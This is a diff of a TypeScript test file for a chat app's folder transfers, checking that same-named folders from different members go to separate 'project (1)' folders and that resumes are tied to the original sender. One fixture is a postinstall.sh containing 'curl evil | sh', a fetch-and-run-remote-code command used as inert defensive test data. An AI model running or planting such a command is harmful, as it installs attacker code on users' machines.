@@ -3,38 +3,48 @@
  * 14.3): a folder of the same name already there, the user's or one another member sent, is
  * never added to; the offer goes to "NAME (1)", "NAME (2)", ... and the prompt and the "done"
  * event say so. An interrupted folder transfer resumes into its own folder, and only the same
- * sender with the same manifest gets it back. Real signatures, real files; the recipient's
- * manager is driven message by message.
+ * sender with the same manifest gets it back. Real files and seals; the recipient's manager is
+ * driven message by message.
  */
 
 import { deepStrictEqual, ok, strictEqual } from "node:assert/strict";
-import type { ChatEvent } from "../../lib/chat/chat_events.ts";
-import type { Identity } from "../../lib/keys/identity.ts";
+import type { ChatEvent, MemberInfo } from "../../lib/chat/chat_events.ts";
 import { sha256 } from "../../lib/core/bytes.ts";
-import { authorOf } from "../../lib/chat/room_messages.ts";
-import type { TransferManager } from "../../lib/transfer/transfer.ts";
 import {
   decodeTransfer,
   encodeManifest,
   encodeTransfer,
   type ManifestEntry,
-  MAX_SLICE,
-  signOffer,
+  MAX_DATA_SLICE,
 } from "../../lib/transfer/transfer_messages.ts";
-import { identities } from "../_helpers/room.ts";
-import { recipientManager } from "../_helpers/transfer_context.ts";
-import { randomBytes } from "../_helpers/peers.ts";
+import {
+  HandSender,
+  memberInfos,
+  randomBytes,
+  type TestEndpoint,
+  TestRoom,
+} from "../_helpers/transfer_context.ts";
 
-const [alice, bob, mallory] = await identities(3) as [Identity, Identity, Identity];
-const roomId = crypto.getRandomValues(new Uint8Array(16));
-let counter = BigInt(Date.now()) * 1000n + 9_000_000_000n;
+const [alice, bob, mallory] = await memberInfos("alice", "bob", "mallory") as [
+  MemberInfo,
+  MemberInfo,
+  MemberInfo,
+];
 
-/** Alice's manager (accepting every offer), with Bob and Mallory in her roster. */
-function aliceManager(receiveDir: string) {
-  return recipientManager(roomId, [[alice, "alice"], [bob, "bob"], [mallory, "mallory"]], {
-    receiveDir,
-    autoAccept: true,
-  });
+/** Alice (accepting every offer) in a room with Bob and Mallory, driven by the test. */
+async function withAlice(body: (alice: TestEndpoint, dir: string) => Promise<void>) {
+  const dir = await Deno.makeTempDir({ prefix: "securechat-folders-" });
+  const room = new TestRoom();
+  room.addPeer(bob);
+  room.addPeer(mallory);
+  const endpoint = room.join(alice, { receiveDir: dir, autoAccept: true });
+  try {
+    await body(endpoint, dir);
+    deepStrictEqual(room.errors, []);
+  } finally {
+    await room.close();
+    await Deno.remove(dir, { recursive: true });
+  }
 }
 
 /** A folder to send: its manifest entries and their contents. */
@@ -53,47 +63,36 @@ type Folder = Awaited<ReturnType<typeof folder>>;
  * from where the Resume says up to `stop[i]` (default: the whole file), then Done unless cut.
  * Returns the Resume points Alice sent.
  */
-async function transfer(
-  manager: TransferManager,
-  sentBox: Uint8Array[],
-  from: Identity,
-  sent: Folder,
-  stop: number[] = [],
-) {
-  const id = crypto.getRandomValues(new Uint8Array(16));
-  const party = authorOf(from.fingerprint);
+async function transfer(alice: TestEndpoint, from: MemberInfo, sent: Folder, stop: number[] = []) {
+  const sender = new HandSender(from, alice);
   const manifest = encodeManifest(sent.entries);
-  const offer = await signOffer(from, {
-    roomId,
-    sender: party,
-    recipient: authorOf(alice.fingerprint),
-    transferId: id,
-  }, {
-    counter: counter++,
+  await sender.offer({
     timestamp: Date.now(),
     name: sent.name,
     fileCount: sent.entries.length,
     totalSize: sent.entries.reduce((sum, e) => sum + e.size, 0),
     manifestSha256: await sha256(manifest),
   });
-  await manager.handle(decodeTransfer(encodeTransfer.offer(party, id, offer)));
-  await manager.handle(decodeTransfer(encodeTransfer.manifest(party, id, 0, manifest)));
-  const resume = decodeTransfer(sentBox.at(-1)!);
+  await sender.sealed(encodeTransfer.manifest(sender.party, sender.id, 0, manifest));
+  const resume = decodeTransfer(alice.sent.at(-1)!.bytes);
   if (resume.type !== "resume") throw new Error(`expected a resume, got ${resume.type}`);
   let cut = false;
   for (const [index, content] of sent.contents.entries()) {
     const start = resume.points.find((p) => p.fileIndex === index)?.length ?? 0;
     const end = stop[index] ?? content.length;
-    for (let offset = start; offset < end; offset += MAX_SLICE) {
-      const bytes = content.subarray(offset, Math.min(end, offset + MAX_SLICE));
-      await manager.handle(decodeTransfer(encodeTransfer.data(party, id, index, offset, bytes)));
+    for (let offset = start; offset < end; offset += MAX_DATA_SLICE) {
+      await sender.data(
+        index,
+        offset,
+        content.subarray(offset, Math.min(end, offset + MAX_DATA_SLICE)),
+      );
     }
     if (end < content.length) {
       cut = true;
       break;
     }
   }
-  if (!cut) await manager.handle(decodeTransfer(encodeTransfer.done(party, id)));
+  if (!cut) await sender.done();
   return resume.points;
 }
 
@@ -118,17 +117,16 @@ const ends = (events: ChatEvent[]) =>
   );
 
 Deno.test("a second member's folder offer named like the first one's goes to \"project (1)\", never into it", async () => {
-  const dir = await Deno.makeTempDir({ prefix: "securechat-folders-" });
-  try {
-    const { manager, sent, events } = aliceManager(dir);
-    await transfer(manager, sent, bob, await folder({ "project/main.ts": text("bob's code") }));
+  await withAlice(async (alice, dir) => {
+    const events = alice.events;
+    await transfer(alice, bob, await folder({ "project/main.ts": text("bob's code") }));
     const before = await tree(dir);
     deepStrictEqual(before, { "project/": "", "project/main.ts": "bob's code" });
     const evil = await folder({
       "project/main.ts": text("mallory's code"),
       "project/postinstall.sh": text("curl evil | sh"),
     });
-    await transfer(manager, sent, mallory, evil);
+    await transfer(alice, mallory, evil);
     strictEqual(offers(events)[1]!.saveAs, "project (1)");
     const done = ends(events);
     deepStrictEqual(done.map((e) => [e.peer.name, e.state, e.path]), [
@@ -141,34 +139,31 @@ Deno.test("a second member's folder offer named like the first one's goes to \"p
       "project (1)/main.ts": "mallory's code",
       "project (1)/postinstall.sh": "curl evil | sh",
     });
-  } finally {
-    await Deno.remove(dir, { recursive: true });
-  }
+  });
 });
 
 Deno.test("an interrupted folder transfer resumes into its own folder, for the same sender and manifest only", async () => {
-  const dir = await Deno.makeTempDir({ prefix: "securechat-folders-" });
-  try {
-    const { manager, sent, events } = aliceManager(dir);
+  await withAlice(async (alice, dir) => {
+    const events = alice.events;
     await Deno.mkdir(`${dir}/project`);
     await Deno.writeTextFile(`${dir}/project/keep.txt`, "the user's own");
     const big = randomBytes(200_000);
     const project = await folder({ "project/a.txt": text("alpha"), "project/big.bin": big });
     // Bob's transfer breaks 90,000 bytes into big.bin: the connection is gone.
-    await transfer(manager, sent, bob, project, [5, 90_000]);
+    await transfer(alice, bob, project, [5, 90_000]);
     strictEqual(offers(events)[0]!.saveAs, "project (1)");
-    await manager.abortAll("the connection was lost");
+    await alice.manager.abortAll("the connection was lost");
     deepStrictEqual(
       (await Array.fromAsync(Deno.readDir(dir))).map((e) => e.name).sort(),
       ["project", "project (1)", "project (1).securechat-resume"],
     );
     // Mallory offering the very same manifest gets a folder of her own and no resume.
-    const theirs = await transfer(manager, sent, mallory, project);
+    const theirs = await transfer(alice, mallory, project);
     deepStrictEqual(theirs, []);
     strictEqual(offers(events)[1]!.saveAs, "project (2)");
     strictEqual(ends(events).at(-1)!.path, `${dir}/project (2)`);
     // Bob's resend resumes big.bin in "project (1)".
-    const points = await transfer(manager, sent, bob, project);
+    const points = await transfer(alice, bob, project);
     strictEqual(offers(events)[2]!.saveAs, "project (1)");
     deepStrictEqual(points.map((p) => [p.fileIndex, p.length]), [[1, 90_000]]);
     const done = ends(events).at(-1)!;
@@ -186,7 +181,5 @@ Deno.test("an interrupted folder transfer resumes into its own folder, for the s
       Object.keys(await tree(dir)).filter((name) => name.includes(".securechat-")),
       [],
     );
-  } finally {
-    await Deno.remove(dir, { recursive: true });
-  }
+  });
 });
